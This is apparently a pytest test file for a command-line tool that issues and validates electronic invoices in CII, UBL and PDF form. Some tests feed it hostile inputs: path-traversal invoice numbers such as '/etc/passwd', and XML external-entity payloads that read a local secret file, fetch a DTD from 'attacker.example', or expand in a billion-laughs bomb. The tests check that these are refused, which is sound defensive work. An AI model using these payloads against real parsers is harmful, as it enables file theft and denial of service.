"""``quorate invoice``: files in, files out, every fault with its place, and nothing written when there is one."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.finance.invoices import FULL

from quorate.exchange.finance.invoicing import cii, reading, schematron, ubl
from quorate.exchange.finance.invoicing.document import Category, Kind
from quorate.kernel.discovery import has, optional
from quorate.kernel.errors import UserError
from quorate.surfaces.cli.main import run

pytestmark = pytest.mark.skipif(not schematron.available(), reason="the extra invoicing is not installed")

DUES = """\
number: 2026-0001
issued: 2026-01-08
currency: EUR
language: fr
seller:
  name: Example Foundation ASBL
  vat_id: BE0123456749
  address: {street: "Rue de l'Exemple 1", city: Bruxelles, postcode: "1000", country: BE}
buyer:
  name: Muster GmbH
  vat_id: DE123456789
  address: {city: Berlin, country: DE}
order: "4500012345"
due: 2026-02-07
lines:
  - name: Gold membership 2026
    price: 125000.00
    vat: {category: AE}
    period: {start: 2026-01-01, end: 2026-12-31}
exemptions:
  - {category: AE, reason: Reverse charge, code: VATEX-EU-AE}
means:
  code: "58"
  accounts: [{number: BE71096123456769}]
remittance: RF72202600019
"""


@pytest.fixture
def dues(tmp_path: Path) -> Path:
    path = tmp_path / "dues.yaml"
    path.write_text(DUES)
    return path


def said(capsys: pytest.CaptureFixture[str]) -> Any:
    return json.loads(capsys.readouterr().out)


def test_issue_writes_both_files_and_check_finds_nothing(
    dues: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    assert run(["invoice", "issue", str(dues), "--out", str(out), "--json"]) == 0
    told = said(capsys)
    assert told["files"] == {"pdf": f"{out}/2026-0001.pdf", "ubl": f"{out}/2026-0001.ubl.xml"}
    assert (told["gross"], told["tax"]) == ("125000.00 EUR", "0.00 EUR")
    assert [(check["syntax"], check["ok"], check["failed"]) for check in told["checks"]] == [
        ("CII", True, []),
        ("UBL Invoice", True, []),
    ]
    for file in told["files"].values():
        assert run(["invoice", "check", file, "--json"]) == 0
        checked = said(capsys)
        assert (checked["ok"], checked["failed"]) == (True, [])
        assert checked["rules"] > 20


def test_files_that_are_there_stay(dues: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "2026-0001.pdf"
    path.write_text("mine")
    assert run(["invoice", "issue", str(dues), "--out", str(tmp_path), "--json"]) == 2
    assert said(capsys)["error"]["where"] == str(path)
    assert path.read_text() == "mine"
    assert not (tmp_path / "2026-0001.ubl.xml").exists()
    assert run(["invoice", "issue", str(dues), "--out", str(tmp_path), "--replace"]) == 0
    assert path.read_bytes().startswith(b"%PDF-")


@pytest.mark.parametrize("number", ["../../evil", "a/b\\c", "..", "/etc/passwd"])
def test_a_number_is_never_a_path(number: str, dues: Path, tmp_path: Path) -> None:
    dues.write_text(DUES.replace("number: 2026-0001", f"number: '{number}'"))
    out = tmp_path / "deep" / "out"
    assert run(["invoice", "issue", str(dues), "--out", str(out)]) == 0
    assert len(list(out.iterdir())) == 2
    assert {each.name for each in tmp_path.iterdir()} == {"dues.yaml", "deep"}


@pytest.mark.parametrize(
    ("change", "where", "what"),
    [
        (("number: 2026-0001\n", ""), "dues.yaml:1", "number is missing"),
        (("price: 125000.00", "price: 125 000,00"), "dues.yaml:17", "is not a number"),
        (("price: 125000.00", "prize: 1"), "dues.yaml:17", "'prize' is not known here"),
        (("category: AE}\n", "category: XX}\n"), "dues.yaml:18", "'XX' is not known here"),
        (("due: 2026-02-07", "due: soon"), "dues.yaml:14", "'soon' is not a day"),
        (('postcode: "1000"', "postcode: 01000"), "dues.yaml:8", "words are expected"),
        (("vat_id: DE123456789", "vat_id: ''"), "invoice.buyer.vat_id", "reverse charge"),
        (("6769", "6760"), "invoice.means.accounts[1].number", "not an IBAN"),
        (("lines:\n", "lines: &x [*x]\nmore:\n"), "dues.yaml:15", "alias"),
        (("language: fr", "language: fr\nlanguage: en"), "dues.yaml:5", "duplicate key"),
        (("currency: EUR", "currency: EUA"), "invoice.currency", "is not a currency"),
    ],
)
def test_each_fault_is_told_and_nothing_is_written(
    change: tuple[str, str], where: str, what: str, dues: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert change[0] in DUES
    dues.write_text(DUES.replace(*change))
    out = tmp_path / "out"
    assert run(["invoice", "issue", str(dues), "--out", str(out), "--json"]) == 2
    told = said(capsys)["error"]
    assert where in told["where"]
    assert what in told["what"]
    assert not out.exists()


def test_a_file_that_is_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for command in (["issue", "--out", str(tmp_path)], ["check"]):
        assert run(["invoice", command[0], str(tmp_path / "none.yaml"), *command[1:], "--json"]) == 2
        assert "none.yaml" in said(capsys)["error"]["where"]


# invoice check ---------------------------------------------------------------------------------------------------


def test_check_tells_every_failed_assertion(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "invoice.xml"
    text = re.sub(r"<cbc:TaxExemptionReason.*", "", ubl.write(FULL).decode())
    path.write_text(text.replace("DocumentCurrencyCode>EUR<", "DocumentCurrencyCode>EUQ<"))
    assert run(["invoice", "check", str(path), "--json"]) == 1
    told = said(capsys)
    assert told["ok"] is False
    rules = {each["rule"] for each in told["failed"]}
    assert {"BR-AE-10", "BR-CL-04"} <= rules, "two faults were made"
    assert all(each["what"] and each["where"].startswith("/Invoice") for each in told["failed"])
    assert run(["invoice", "check", str(path)]) == 1
    assert "fatal BR-AE-10 /Invoice/" in capsys.readouterr().out


def test_check_asks_the_schema_first(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "invoice.xml"
    path.write_bytes(cii.write(FULL).replace(b"ram:DuePayableAmount", b"ram:DueAmount"))
    assert run(["invoice", "check", str(path), "--json"]) == 1
    (first, *_rest) = said(capsys)["failed"]
    assert first["rule"] == "XSD"
    assert "DueAmount" in first["what"]
    assert first["where"].rpartition(":")[2].isdigit()


def test_check_neither_fetches_nor_grows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    text = ubl.write(FULL).decode().partition("?>")[2]
    bombs = {
        "file": f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">]>',
        "network": '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
        "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/"> %a;]>',
    }
    path = tmp_path / "invoice.xml"
    for name, bomb in bombs.items():
        path.write_text(bomb + text.replace("A note", "&a;" if name == "file" else "&c;" if name == "laughs" else "A"))
        assert run(["invoice", "check", str(path), "--json"]) == 2, name
        captured = capsys.readouterr()
        assert "the secret" not in captured.out + captured.err
        assert "document type" in json.loads(captured.out)["error"]["what"] or name == "parameter"


@pytest.mark.parametrize(
    ("content", "what"),
    [(b"", "empty"), (b"plain", "not XML"), (b"<a/>", "neither CII nor UBL"), (b"%PDF-1.7 broken", "PDF")],
)
def test_check_refuses_what_is_no_invoice(
    content: bytes, what: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    assert run(["invoice", "check", str(path), "--json"]) == 2
    assert what in said(capsys)["error"]["what"]


# Reading ---------------------------------------------------------------------------------------------------------


def test_numbers_are_exact_or_refused() -> None:
    invoice = reading.read(DUES.replace("125000.00", '"0.1000000000000000055"'), name="x")
    assert str(invoice.lines[0].price) == "0.1000000000000000055"
    assert str(reading.read(DUES.replace("125000.00", "0.1"), name="x").lines[0].price) == "0.1"
    with pytest.raises(UserError, match="more digits"):
        reading.read(DUES.replace("125000.00", "1234567890123456.78"), name="x")


def test_json_is_read_too() -> None:
    document = {
        "number": "1",
        "issued": "2026-01-08",
        "kind": "credit-note",
        "currency": "EUR",
        "seller": {"name": "S"},
        "buyer": {"name": "B"},
        "lines": [{"name": "x", "price": "1.50", "vat": {"category": "S", "rate": 21}, "attributes": {"Tier": "Gold"}}],
    }
    invoice = reading.read(json.dumps(document), name="x.json")
    assert invoice.kind is Kind.CREDIT_NOTE
    assert invoice.lines[0].vat.category is Category.STANDARD
    assert invoice.lines[0].attributes == (("Tier", "Gold"),)


# What it costs those who do not need it ------------------------------------------------------------------------------


def test_other_commands_import_nothing_of_it() -> None:
    heavy = ["lxml", "saxonche", "facturx", "pypdf", "quorate.exchange.finance.invoicing.papers"]
    script = (
        "import sys; from quorate.surfaces.cli.main import run; run(['motion', '--help']);"
        f" sys.exit(sum(name in sys.modules for name in {heavy}))"
    )
    assert subprocess.run([sys.executable, "-c", script], stdout=subprocess.DEVNULL, check=False).returncode == 0


def test_a_library_that_is_missing_is_named() -> None:
    with pytest.raises(UserError) as caught:
        optional("no_such_library", extra="invoicing")
    assert caught.value.mend == "install the extra: pip install 'quorate[invoicing]'"
    assert not has("no_such_library")


def test_a_defect_of_a_library_is_not_taken_for_its_absence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "broken_library.py").write_text("import no_such_thing_at_all")
    monkeypatch.syspath_prepend(tmp_path)
    with pytest.raises(ModuleNotFoundError):
        optional("broken_library", extra="invoicing")
